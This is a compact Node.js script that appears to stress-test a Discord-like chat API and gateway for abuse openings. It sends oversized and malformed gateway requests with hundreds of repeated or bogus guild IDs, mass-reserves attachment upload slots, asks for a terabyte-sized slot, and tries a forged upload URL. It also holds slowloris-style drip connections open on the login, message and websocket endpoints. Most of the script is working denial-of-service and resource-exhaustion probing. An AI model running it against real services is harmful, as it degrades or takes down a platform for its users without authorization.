import WebSocket from 'ws'; import net from 'node:net';
const {API_BASE:A,GATEWAY_URL:G,BOT_TOKEN:B,USER_TOKEN:U,GUILD_ID:g,CHANNEL_ID:c}=process.env;
const api=async(m,p,t,b)=>{const r=await fetch(A+'/v10'+p,{method:m,headers:{authorization:t,'content-type':'application/json'},body:b&&JSON.stringify(b)});const x=await r.text();let j;try{j=JSON.parse(x)}catch{j=x}return [r.status,j]};
const sleep=ms=>new Promise(r=>setTimeout(r,ms));
function ses(token,intents,identify=true){return new Promise(res=>{const w=new WebSocket(G+'/?v=10&encoding=json');const s={w,got:[],bytes:0,closed:null};w.on('message',d=>{s.bytes+=d.length;const m=JSON.parse(d);s.got.push(m);if(m.op===10&&identify)w.send(JSON.stringify({op:2,d:{token,intents,properties:{}}}));if(m.t==='READY')res(s);if(!identify&&m.op===10)res(s)});w.on('close',k=>{s.closed=k;res(s)});w.on('error',()=>{})})}
const bot='Bot '+B;
console.log('gateway/bot', JSON.stringify((await api('GET','/gateway/bot',bot))[1]));
const s=await ses(B,3276799|2); await sleep(500);
console.log('after identify', JSON.stringify((await api('GET','/gateway/bot',bot))[1].session_start_limit));
async function probe(name,msg){const n=s.got.length,b=s.bytes;s.w.send(JSON.stringify(msg));await sleep(2000);console.log(name,'frames',s.got.length-n,'bytes',s.bytes-b,'in',JSON.stringify(msg).length,'closed',s.closed,[...new Set(s.got.slice(n).map(m=>m.t||m.op))].join())}
await probe('op8 same x180',{op:8,d:{guild_id:Array(180).fill(g),query:'',limit:0}});
await probe('op8 strange x180',{op:8,d:{guild_id:Array.from({length:180},(_,i)=>String(10n**17n+BigInt(i))),query:'',limit:0}});
await probe('op8 user_ids x100 same',{op:8,d:{guild_id:g,user_ids:Array(100).fill('1')}});
await probe('op8 query all',{op:8,d:{guild_id:g,query:'',limit:0}});
await probe('op31 x200',{op:31,d:{guild_ids:Array(180).fill(g)}});
await probe('op31 strange',{op:31,d:{guild_ids:Array.from({length:180},(_,i)=>String(10n**17n+BigInt(i)))}});
await probe('op43',{op:43,d:{guild_id:g,fields:['status','voice_start_time']}});
await probe('op14',{op:14,d:{guild_id:g,channels:{[c]:Array.from({length:50},(_,i)=>[i*100,i*100+99])}}});
await probe('op37',{op:37,d:{subscriptions:{[g]:{typing:true,channels:{[c]:[[0,99]]}}}}});
await probe('op8 query number',{op:8,d:{guild_id:g,query:5,limit:0}});
// upload slots
const slots=[];for(let i=0;i<30;i++){const [st,j]=await api('POST',`/channels/${c}/attachments`,bot,{files:Array.from({length:10},(_,k)=>({filename:'a.txt',file_size:1e7,id:String(k)}))});slots.push([st,j]);if(st===429)await sleep((j.retry_after||1)*1000)}
console.log('slots',slots.map(x=>x[0]).join(), JSON.stringify(slots[0][1]).slice(0,300));
const url=slots[0][1].attachments?.[0]?.upload_url;
if(url){for(const [n,body] of [['1 byte',Buffer.alloc(1)],['12MB',Buffer.alloc(12e6)]]){try{const r=await fetch(url,{method:'PUT',body});console.log('put',n,r.status,(await r.text()).slice(0,200))}catch(e){console.log('put',n,e.cause?.code||e.message)}}
const r=await fetch(url.replace(/.$/,x=>x==='a'?'b':'a'),{method:'PUT',body:'x'});console.log('put forged',r.status,(await r.text()).slice(0,100));}
console.log('too big slot',JSON.stringify(await api('POST',`/channels/${c}/attachments`,bot,{files:[{filename:'a.txt',file_size:1e12,id:'1'}]})));
// drips
const u=new URL(A);
function drip(name,head,every,rest){return new Promise(res=>{const t=Date.now();const k=net.connect(u.port,u.hostname,()=>{k.write(head);const i=setInterval(()=>{k.destroyed||k.write(rest)},every);let out='';k.on('data',d=>out+=d);k.on('close',()=>{clearInterval(i);res();console.log('drip',name,Math.round((Date.now()-t)/1000)+'s',out.split('\r\n')[0])});k.on('error',()=>{});setTimeout(()=>{if(!k.destroyed){console.log('drip',name,'STILL OPEN 100s');k.destroy()}},100000)})})}
await Promise.all([
 drip('idle','',1000,''),
 drip('head','GET /api/v10/gateway HTTP/1.1\r\nHost: x\r\n',1000,'X'),
 drip('login body',`POST /api/v10/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n{`,1000,' '),
 drip('chunked',`POST /api/v10/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`,1000,'1\r\n \r\n'),
 drip('bot message',`POST /api/v10/channels/${c}/messages HTTP/1.1\r\nHost: x\r\nAuthorization: ${bot}\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n{`,1000,' '),
 drip('ws head',`GET /gateway/?v=10&encoding=json HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`,1000,''),
 ...(url?[drip('slot put',`PUT ${new URL(url).pathname}${new URL(url).search} HTTP/1.1\r\nHost: x\r\nContent-Length: 400000\r\n\r\n`,1000,'x')]:[]),
 (async()=>{const t=Date.now();const n=await ses(B,0,false);await new Promise(r=>{n.w.on('close',k=>{console.log('no identify closed',k,Math.round((Date.now()-t)/1000)+'s');r()});setTimeout(r,100000)})})(),
]);
s.w.close();process.exit(0)
